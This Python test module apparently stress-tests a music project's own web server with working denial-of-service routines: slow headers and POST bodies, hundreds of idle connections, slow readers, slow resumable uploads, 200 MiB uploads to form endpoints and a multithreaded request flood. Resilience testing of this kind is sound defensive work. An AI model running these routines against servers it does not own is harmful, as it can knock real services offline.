"""Attacks by connections: slow, idle, many, and bodies that nobody wants."""

from __future__ import annotations

import socket
import ssl
from collections import Counter
from contextlib import suppress
from http.client import HTTPException
from threading import Thread

from tests.attacks.kinds import Outcome, Stop
from tests.attacks.target import Target

DRIP_EVERY_S = 0.5
SLOW_CONNECTIONS = 70
IDLE_CONNECTIONS = 300
FLOODERS = 16
SPOOLED_BYTES = 200 * 1024**2
PIECE = b"x" * 65_536
FORM = "application/x-www-form-urlencoded"
UPLOAD = "application/offset+octet-stream"
# Addresses whose forms may bring files, and one that everybody may send a form to.
BODY_ADDRESSES = (
    "/sign-in/",
    "/songs/1/files/upload/",
    "/files/1/replace/",
    "/songs/1/rough-mixes/upload/",
    "/deliveries/1/upload/",
)


def slow_posts(target: Target, stop: Stop) -> Outcome:
    head = target.head("POST", "/sign-in/", Content_Type=FORM, Content_Length="1000")
    return drip(target, stop, head, b"u", SLOW_CONNECTIONS)


def slow_heads(target: Target, stop: Stop) -> Outcome:
    return drip(target, stop, f"GET / HTTP/1.1\r\nHost: {target.host}\r\n".encode(), b"A: b\r\n", SLOW_CONNECTIONS)


def idle(target: Target, stop: Stop) -> Outcome:
    return drip(target, stop, b"", b"", IDLE_CONNECTIONS)


def slow_readers(target: Target, stop: Stop) -> Outcome:
    """Ask over and over on one connection, and take nothing of the answers."""
    ask = target.head("GET", "/static/css/page.css") + target.head("GET", "/sign-in/")
    return drip(target, stop, ask * 20, b"", SLOW_CONNECTIONS, receive_bytes=4_096)


def slow_uploads(target: Target, stop: Stop) -> Outcome:
    head = target.head(
        "PATCH", "/tus/00000000-0000-0000-0000-000000000000/", Content_Type=UPLOAD, Content_Length="99999999"
    )
    return drip(target, stop, head, b"x", SLOW_CONNECTIONS)


def drip(
    target: Target, stop: Stop, begin: bytes, drop: bytes, connections: int, *, receive_bytes: int | None = None
) -> Outcome:
    """Keep as many connections open as asked for, each with a byte or so now and then."""
    peers: list[socket.socket] = []
    opened = 0
    while not stop.is_set():
        while len(peers) < connections and not stop.is_set():
            with suppress(OSError):
                peer = target.connect(timeout_s=2)
                peers.append(peer)
                opened += 1
                if receive_bytes:
                    peer.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive_bytes)
                peer.sendall(begin)
        peers = [peer for peer in peers if is_alive(peer, drop, reads=not receive_bytes)]
        stop.wait(DRIP_EVERY_S)
    for peer in peers:
        peer.close()
    return {"connections opened": opened, "held at the end": len(peers)}


def is_alive(peer: socket.socket, drop: bytes, *, reads: bool) -> bool:
    try:
        peer.sendall(drop)
        if reads and arrived(peer) == b"":
            raise ConnectionResetError
        return True
    except OSError:
        peer.close()
        return False


def arrived(peer: socket.socket) -> bytes | None:
    """What is here, without waiting: nothing yet is None, the end is no bytes."""
    peer.settimeout(0)
    try:
        return peer.recv(1_024)
    except (BlockingIOError, ssl.SSLWantReadError):
        return None
    finally:
        peer.settimeout(2)


def spooled_bodies(target: Target, stop: Stop) -> Outcome:
    """200 MiB to each address that is known to read a body, from nobody who is known."""
    taken: Counter[str] = Counter()
    while not stop.is_set():
        for path in BODY_ADDRESSES:
            taken[path] = max(taken[path], send_much(target, path, stop))
    return {"MiB sent before a refusal": {path: round(sent / 1024**2, 1) for path, sent in taken.items()}}


def send_much(target: Target, path: str, stop: Stop) -> int:
    boundary = "x-boundary"
    kind = f"multipart/form-data; boundary={boundary}"
    start = f'--{boundary}\r\nContent-Disposition: form-data; name="file"; filename="a.wav"\r\n\r\n'.encode()
    sent = 0
    with suppress(OSError), target.connect() as peer:
        peer.sendall(target.head("POST", path, Content_Type=kind, Content_Length=str(SPOOLED_BYTES)) + start)
        while sent < SPOOLED_BYTES - len(start) - len(PIECE) and not stop.is_set():
            if arrived(peer) is not None:  # an answer before the end: the rest is not wanted
                break
            peer.sendall(PIECE)
            sent += len(PIECE)
    return sent


def flood(target: Target, stop: Stop) -> Outcome:
    """As many requests as a handful of connections can bring."""
    counts: Counter[str] = Counter()

    def ask_on() -> None:
        while not stop.is_set():
            try:
                counts[str(target.ask("GET", "/sign-in/").status)] += 1
            except (OSError, HTTPException):
                counts["no answer"] += 1

    threads = [Thread(target=ask_on) for _ in range(FLOODERS)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    return {"answers": dict(counts)}
